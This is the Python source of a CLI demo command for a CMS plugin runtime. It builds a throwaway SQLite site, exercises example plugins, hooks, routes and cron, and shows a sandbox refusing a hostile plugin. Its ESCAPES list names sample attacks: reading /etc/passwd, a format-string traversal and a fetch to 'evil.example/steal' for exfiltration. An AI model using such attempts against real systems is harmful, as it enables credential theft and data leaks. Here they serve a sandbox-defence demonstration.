"""``emdash demo``: a throw-away site on embedded SQLite, driven through the example plugins.

Everything here is real: a SQLite file, the example plugins from ``examples/`` loaded from
disk (sandboxed in forked, seccomp-confined workers when this machine can sandbox them),
real CMS operations whose hooks fire, routes called over the ASGI app with HTTP semantics,
a cron tick, rendered page metadata, and the audit log of every plugin invocation.
"""

from __future__ import annotations

import json
import logging
import shutil
import tempfile
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import anyio
import click
import httpx

from .._asgi._app import create_app
from .._runtime._runtime import Runtime
from .._shared._errors import EmDashError
from ._output import audit_table, error_line, format_table

__all__ = ["EXAMPLE_PLUGINS", "examples_dir", "run_demo"]

EXAMPLE_PLUGINS = ("hello", "seo-check", "audit-trail", "og-metadata", "webhook-notifier", "forms")
# Attempts of the hostile example shown in the demo, with what each tries.
ESCAPES = (
    ("import-os", "import os"),
    ("read-file", "open('/etc/passwd')"),
    ("format-traversal", "'{0.__class__.__mro__}'.format(ctx)"),
    ("other-storage", "read plugin-hello's storage"),
    ("exfiltrate", "ctx.http.fetch('https://evil.example/steal')"),
    ("spin", "while True: ... (CPU limit)"),
)
DEMO_TOKEN = "demo-token-not-secret-0123456789"

Echo = Callable[[str], None]


def examples_dir() -> Path:
    """The ``examples/`` directory of this source checkout."""
    found = Path(__file__).resolve().parents[2] / "examples"
    if not (found / "hello" / "emdash-plugin.toml").is_file():
        raise EmDashError(
            f"The example plugins are not next to this installation ({found}); run the demo "
            "from a source checkout of emdash (make demo)"
        )
    return found


def run_demo(
    *, force_trusted: bool = False, directory: Path | None = None, echo: Echo = click.echo
) -> None:
    """Build the demo site (in ``directory``, kept, or a temporary one) and narrate it."""
    import sandbox

    examples = examples_dir()
    availability = sandbox.is_available()
    trusted = force_trusted or not availability.ok
    workdir = directory or Path(tempfile.mkdtemp(prefix="emdash-demo-"))
    workdir.mkdir(parents=True, exist_ok=True)
    db = workdir / "site.db"
    echo("emdash demo")
    echo(f"Site database: {db} (embedded SQLite)")
    if trusted:
        why = (
            "--trusted was given"
            if force_trusted
            else (f"this machine cannot sandbox plugins: {availability.reason}")
        )
        echo(f"Mode: TRUSTED, the example plugins run in-process ({why}).")
    else:
        echo(
            "Mode: SANDBOXED, every example plugin runs in its own seccomp-confined worker "
            "processes with CPU, memory, wall-time and subrequest limits."
        )
    handler = _EchoHandler(echo)
    logger = logging.getLogger("emdash")
    saved = (logger.level, logger.propagate)
    # The demo shows log lines inline, in its own format: the CLI's stderr handler (which
    # every command installs) would print each one a second time.
    others = logger.handlers[:]
    logger.handlers = [handler]
    logger.setLevel(logging.INFO)
    logger.propagate = False
    try:
        with Runtime(
            str(db),
            sandbox=True,
            site={"name": "Demo site", "url": "https://demo.example"},
            media_dir=workdir / "media",
        ) as rt:
            _Demo(rt, examples, trusted, echo).run()
    finally:
        logger.handlers = others
        logger.setLevel(saved[0])
        logger.propagate = saved[1]
        if directory is None:
            shutil.rmtree(workdir, ignore_errors=True)
    echo("")
    echo("Admin UI: serve the example site and open http://127.0.0.1:8000/_emdash/admin/ :")
    echo(
        "  EMDASH_API_TOKEN=change-me-to-a-long-secret .venv/bin/emdash "
        "--config examples/emdash.toml serve"
    )
    echo("  then sign in with that token (the site's api_token).")
    echo("")
    echo(
        f"Done. The site was kept in {workdir}."
        if directory
        else "Done. (Run `emdash demo --keep DIR` to keep the site.)"
    )


class _EchoHandler(logging.Handler):
    """Shows the runtime's log lines (plugins' ctx.log included) inline, one line each.

    Tracebacks are left out: the demo shows what happened, the audit log keeps the rest.
    """

    def __init__(self, echo: Echo) -> None:
        super().__init__(logging.INFO)
        self.echo = echo

    def emit(self, record: logging.LogRecord) -> None:
        first = record.getMessage().splitlines()[0] if record.getMessage() else ""
        self.echo(f"   log {record.levelname.lower():<7} {_short(first, 120)}")


class _Demo:
    def __init__(self, rt: Runtime, examples: Path, trusted: bool, echo: Echo) -> None:
        self.rt = rt
        self.examples = examples
        self.trusted = trusted
        self.echo = echo
        self.app = create_app(rt, token=DEMO_TOKEN)

    def step(self, title: str) -> None:
        self.echo("")
        self.echo(f"== {title}")

    def run(self) -> None:
        self.install()
        post = self.content()
        self.hooks()
        self.routes()
        self.cron()
        self.page(post)
        if not self.trusted:
            self.escapes()
        self.audit()

    # -- the steps ---------------------------------------------------------------------

    def install(self) -> None:
        self.step("Installing the example plugins (plugin:install and plugin:activate fire)")
        for name in EXAMPLE_PLUGINS:
            self.rt.add_plugin(self.examples / name, trusted=self.trusted)
        rows = [
            {
                **p,
                "hooks": _short(", ".join(p["hooks"]) or "-", 48),
                "routes": _short(", ".join(p["routes"]) or "-", 40),
            }
            for p in self.rt.plugins()
        ]
        self.echo(
            format_table(
                rows,
                [
                    ("id", "PLUGIN"),
                    ("version", "VERSION"),
                    ("mode", "MODE"),
                    ("hooks", "HOOKS"),
                    ("routes", "ROUTES"),
                ],
            )
        )

    def content(self) -> dict[str, Any]:
        self.step("Content: create, update, publish, delete (content hooks fire)")
        content = self.rt.content
        post = content.create(
            "posts",
            {
                "title": "  Hello, world ",
                "body": "emdash runs EmDash plugins in Python, sandboxed with seccomp.",
            },
        )
        data = post["data"]
        self.echo(
            f"created post {post['id']}: seo-check trimmed the title to "
            f'"{data["title"]}", set slug "{data["slug"]}" and meta_description'
        )
        try:
            content.create("posts", {"title": "   ", "body": "no title"})
        except EmDashError as exc:
            self.echo(f"refused an untitled post: {_short(error_line(exc))}")
        post = content.update("posts", post["id"], {"title": "Hello again, world"})
        self.echo(f'updated the title to "{post["data"]["title"]}"')
        post = dict(content.publish("posts", post["id"]))
        self.echo(f"published it at {post['publishedAt']}")
        page = content.create("pages", {"title": "About", "pinned": True})
        try:
            content.delete("pages", page["id"])
        except EmDashError as exc:
            self.echo(f"tried to delete the pinned page: {error_line(exc)}")
        draft = content.create("posts", {"title": "A draft to throw away"})
        content.delete("posts", draft["id"])
        self.echo(f"deleted the draft {draft['id']} (moved to the trash)")
        return post

    def hooks(self) -> None:
        self.step("A hook run by hand: content:beforeSave through the whole pipeline")
        outcome = self.rt.run_hook(
            "content:beforeSave",
            {
                "content": {"title": "Pipeline test", "body": "x"},
                "collection": "posts",
                "isNew": True,
            },
        )
        rows = [
            {"plugin": r.plugin_id, "ok": r.success, "ms": r.duration_ms, "cpu": r.cpu_ms}
            for r in outcome.results
        ]
        self.echo(
            format_table(
                rows, [("plugin", "PLUGIN"), ("ok", "OK"), ("ms", "MS"), ("cpu", "CPU MS")]
            )
        )
        self.echo("value: " + json.dumps(outcome.value))

    def routes(self) -> None:
        self.step("Routes over HTTP (the ASGI app at /_emdash/api/plugins/<id>/<route>)")
        calls: list[tuple[str, str, Any, bool]] = [
            ("GET", "plugin-hello/recent", None, True),
            ("GET", "plugin-hello/recent", None, False),
            ("GET", "audit-trail/log?action=save&limit=2", None, True),
            (
                "POST",
                "forms/submit",
                {"form": "contact", "email": "ada@example.com", "message": "Hello!"},
                False,
            ),
            (
                "POST",
                "forms/submit",
                {"form": "contact", "email": "ada@example.com", "message": "Hello!"},
                False,
            ),
            ("POST", "forms/submit", {"form": "contact", "email": "not-an-email"}, False),
        ]
        for method, path, body, with_token in calls:
            status, reply = anyio.run(self._http, method, path, body, with_token)
            auth = "with token" if with_token else "no token"
            self.echo(f"{method} {path} ({auth}) -> {status} {_short(json.dumps(reply))}")

    async def _http(self, method: str, path: str, body: Any, with_token: bool) -> tuple[int, Any]:
        headers = {"authorization": f"Bearer {DEMO_TOKEN}"} if with_token else {}
        transport = httpx.ASGITransport(app=self.app)
        async with httpx.AsyncClient(transport=transport, base_url="https://demo.example") as c:
            response = await c.request(
                method, f"/_emdash/api/plugins/{path}", json=body, headers=headers
            )
        return response.status_code, response.json()

    def cron(self) -> None:
        self.step("Cron: forms scheduled a weekly cleanup when it was activated")
        for task in self.rt.cron.list("forms"):
            self.echo(f"forms: {task['name']} ({task['schedule']}), next run {task['nextRunAt']}")
        later = datetime.now(UTC) + timedelta(days=8)
        runs = self.rt.cron.tick(now=later)
        self.echo(
            f"a tick eight days from now ran {len(runs)} task(s): "
            + ", ".join(
                f"{r.plugin_id}:{r.name} ({'ok' if r.success else r.error}; {r.outcome}, next run "
                f"{r.next_run_at})"
                for r in runs
            )
        )

    def page(self, post: dict[str, Any]) -> None:
        from .._services._page import page_context

        self.step("Page metadata: og-metadata's contributions, validated and escaped")
        page = page_context(
            f"https://demo.example/posts/{post['data']['slug']}",
            kind="content",
            title=post["data"]["title"],
            description=post["data"].get("meta_description"),
            content={"collection": "posts", "id": post["id"], "slug": post["data"]["slug"]},
            article_meta={"publishedTime": post["publishedAt"], "author": "Ada"},
        )
        self.echo(self.rt.page.render_head(page))

    def escapes(self) -> None:
        self.step("The hostile example plugin, sandboxed: every escape attempt is refused")
        self.rt.add_plugin(self.examples / "malicious")
        for route, attempt in ESCAPES:
            try:
                data = self.rt.invoke_route("malicious", route)
            except EmDashError as exc:
                self.echo(
                    f"{attempt:<45} refused: {type(exc).__name__}: {_short(error_line(exc), 90)}"
                )
            else:  # pragma: no cover - would be a sandbox failure; say so loudly
                self.echo(f"{attempt:<45} NOT REFUSED: {_short(json.dumps(data))}")

    def audit(self) -> None:
        self.step("The audit log (newest first): every hook, route, lifecycle and cron call")
        self.echo(audit_table(self.rt.audit_log(limit=15)))


def _short(text: str, limit: int = 110) -> str:
    return text if len(text) <= limit else text[: limit - 3] + "..."
